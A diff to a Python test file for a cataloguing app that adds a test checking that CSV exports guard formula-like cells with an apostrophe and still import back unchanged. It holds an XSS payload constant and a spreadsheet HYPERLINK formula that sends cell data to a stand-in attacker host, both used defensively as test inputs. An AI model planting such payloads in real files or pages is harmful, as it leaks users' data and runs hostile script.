@@ -17,7 +17,7 @@ from slice_of_culture.importers import listening
 from slice_of_culture.models import Entry, Item
 from slice_of_culture.services import catalog, imports
 from slice_of_culture.services.errors import ValidationError
-from tests.utils.factories import make_item, make_user
+from tests.utils.factories import make_entry, make_item, make_user
 
 XSS = "<img src=x onerror=alert(1)>"
 
@@ -202,6 +202,26 @@ def test_an_export_imports_back_as_it_was_and_never_more_public(session) -> None
     assert [e[-1] for e in entries_of(bea)] == ["followers", "private"]
     bad = imports.read_file("x.csv", b"kind,title,visibility\nbook,X,everyone\n")
     assert bad.problems == ["Line 2: the visibility 'everyone' is not public, followers or private."]
+
+
+def test_an_export_never_hands_a_spreadsheet_a_formula_and_still_imports_back(session) -> None:
+    """Catalog titles are anyone's text: a cell a spreadsheet would run comes out guarded by a
+    leading apostrophe, and our importer reads it back as it was written."""
+    import csv
+
+    ana, bea = make_user(session, "sheets"), make_user(session, "sheetsback")
+    trap = make_item(session, '=HYPERLINK("https://evil.example/?"&A1,"Dune")', kind="book", creator="@someone")
+    make_entry(session, ana, trap, status="finished", review="-- not for me")
+    make_entry(session, ana, make_item(session, "Plain"), status="finished")
+    exported = imports.export_csv(session=session, user=ana)
+    cells = [cell for row in csv.reader(io.StringIO(exported)) for cell in row]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")]
+    assert '\'=HYPERLINK("https://evil.example/?"&A1,"Dune")' in cells and "'@someone" in cells
+    assert "'-- not for me" in cells and "Plain" in cells
+    back = imports.read_file("slice-of-culture.csv", exported.encode())
+    assert [(r.title, r.creator, r.review) for r in back.rows][0] == (trap.title, "@someone", "-- not for me")
+    result = imports.run_import(session=session, user=bea, rows=back.rows, visibility="public")
+    assert (result.imported, result.new_items) == (2, 0)
 
 
 def test_match_item_is_an_index_lookup_on_both_databases(session) -> None:
